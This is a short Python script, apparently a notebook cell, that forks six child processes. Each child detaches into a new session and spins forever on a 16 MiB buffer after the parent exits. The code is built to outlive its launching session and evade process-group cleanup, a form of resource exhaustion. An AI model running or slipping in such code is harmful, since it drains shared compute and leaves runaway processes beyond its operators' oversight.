# %% top
import os
import time

for _ in range(6):
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            os.setpgid(0, 0)
        room = bytearray(16 * 2**20)
        while True:
            room[:] = room[::-1]
time.sleep(1)
